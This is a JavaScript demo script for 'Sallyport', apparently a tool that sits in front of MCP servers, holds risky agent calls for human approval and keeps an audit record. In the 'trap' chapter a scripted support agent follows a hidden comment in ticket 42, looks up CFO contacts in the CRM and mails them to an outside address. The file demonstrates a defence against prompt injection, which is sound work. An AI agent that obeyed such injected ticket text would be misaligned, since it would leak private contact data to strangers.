// What happens, in which order, and what the watcher is told of it.
import { spawnSync } from 'node:child_process';
import { COMMAND } from './actor.mjs';
import { originOf, seenInCall, seenInResult } from './seen.mjs';

const SERVERS = ['files', 'memory', 'tickets', 'crm', 'mail'];

/** Plays the story. `decide` is the person's answer, `beat` a pause to read, `outbox` what the mail server has sent. */
export async function tell({ stage, actor, record, state, decide, beat, outbox }) {
  const act = actorOn({ stage, actor, record, decide, beat });

  stage.title(
    'Sallyport, the demo',
    'A support agent answers ticket 42 with the tools of five MCP servers, all behind one: Sallyport. The agent is a script, so no model is needed. The client, the servers and every decision are real.',
  );
  const names = await actor.connect(SERVERS);
  stage.tree(
    'agent ── sallyport',
    SERVERS.map((server) => [server, countText(names, server)]),
  );
  await beat();

  stage.chapter('The work: nobody is interrupted');
  await act('files', 'read_text_file', { path: 'reply-guide.md' });
  const { text } = await act('tickets', 'read_ticket', { id: 42 });
  const ticket = JSON.parse(text);
  const trap = /<!--.*-->/s.exec(ticket.text)?.[0] ?? '';
  const stranger = /[\w.-]+@[\w.-]+\.example/.exec(trap)?.[0] ?? '';
  stage.quote(`From: ${ticket.from}\n\n${ticket.text}`.replace(/(?<!\n)\n(?!\n)/g, ' '), stranger);
  await beat();
  const note = 'Account locked; opens again by itself';
  await act('memory', 'create_entities', {
    entities: [{ name: 'Ticket 42', entityType: 'ticket', observations: [note] }],
  });
  await act('mail', 'send_mail', {
    to: ticket.from,
    subject: `Re: ${ticket.subject}`,
    body: 'Thank you for writing. Your account opens again by itself after an hour; please try then.',
  });

  stage.chapter('The trap: the agent obeys the ticket');
  const officers = JSON.parse((await act('crm', 'search_contacts', { query: 'CFO' })).text);
  const leak = await act('mail', 'send_mail', {
    to: stranger,
    subject: 'verification',
    body: officers.map(({ name, email }) => `${name} <${email}>`).join('\n'),
  });
  stage.say(leak.isError ? 'The agent is told:' : 'The agent gets back:', { indent: '     ' });
  stage.quote(leak.text);
  stage.print();
  const sent = outbox().map(({ to }) => to);
  stage.say(`The mail server's outbox now holds: ${sent.map((to) => `a mail to ${to}`).join(', ')}.`);
  await actor.close();
  await beat();

  stage.chapter('The record: what anybody can read afterwards');
  showRecord(stage, state);
  stage.print();
  stage.say('`npm run demo -- --keep` keeps this record, and `sallyport show CALL --state DIR` shows a call whole.');
  stage.say(
    'Next: `npm link` puts `sallyport` on your PATH, and `sallyport adopt` shows what it would put in front of your own servers.',
  );
}

/** Makes the function by which the agent acts: it calls, and shows what the record has of the call. */
function actorOn({ stage, actor, record, decide, beat }) {
  let n = 0;
  return async (server, tool, args) => {
    n++;
    let asked = false;
    actor.onQuestion(async (message) => {
      asked = true;
      const entry = await record.held();
      stage.call(n, server, tool, 'held');
      for (const line of seenInCall(entry)) stage.seen(line);
      stage.question(message.split('\n'));
      await showOrigin(stage, record, entry);
      stage.print();
      const yes = await decide();
      stage.print();
      return yes ? 'allow_once' : 'deny';
    });
    const answer = await actor.call(server, tool, args);
    const { call, result } = await record.next();
    if (!asked) {
      stage.call(n, server, tool, { allow: 'allowed', ask: 'held', deny: 'refused' }[call.decision.effect]);
      for (const [name, value] of Object.entries(args)) stage.argument(name, value);
      for (const line of seenInCall(call)) stage.seen(line);
    }
    for (const line of seenInResult(result)) stage.seen(line);
    await beat();
    return { text: textOf(answer), isError: answer.isError === true };
  };
}

/** Shows the words of the earlier result that the recipient was taken from. */
async function showOrigin(stage, record, entry) {
  const origin = originOf(entry);
  if (origin === undefined) return;
  stage.print();
  const { upstream, tool, ago, call } = origin.from;
  stage.say(`From the record, what ${upstream}.${tool} returned ${ago === 1 ? 'one call' : `${ago} calls`} ago:`);
  stage.quote(around(await record.result(call), origin.value), origin.value);
}

/** The words of a JSON text before and after `value`. */
function around(json, value) {
  const plain = json.replace(/(\\+n)+/g, ' ').replace(/\\+"/g, '"');
  const at = plain.indexOf(value);
  return `… ${plain.slice(Math.max(0, at - 145), at + value.length + 60).replace(/^\S* |\S*$/g, '')}…`;
}

/** What the product's own commands say of the record. */
function showRecord(stage, state) {
  stage.print();
  stage.say('$ sallyport log --json --kind call,hold,approval   (in short)', { style: stage.paint.bold });
  for (const line of run(state, ['log', '--json', '--kind', 'call,hold,approval']).split('\n')) {
    stage.record(JSON.parse(line));
  }
  stage.print();
  stage.say('$ sallyport verify', { style: stage.paint.bold });
  stage.say(run(state, ['verify']));
}

function run(state, args) {
  const options = { encoding: 'utf8', env: { ...process.env, NO_COLOR: '1' } };
  const { stdout, stderr, status } = spawnSync(process.execPath, [COMMAND, ...args, '--state', state], options);
  if (status !== 0) throw new Error(`sallyport ${args[0]} failed: ${stderr || stdout}`);
  return stdout.trim();
}

const textOf = ({ content }) => content.flatMap((part) => (part.type === 'text' ? [part.text] : [])).join('\n');

function countText(names, server) {
  const count = names.filter((name) => name.startsWith(`${server}__`)).length;
  return `${count} ${count === 1 ? 'tool' : 'tools'}`;
}
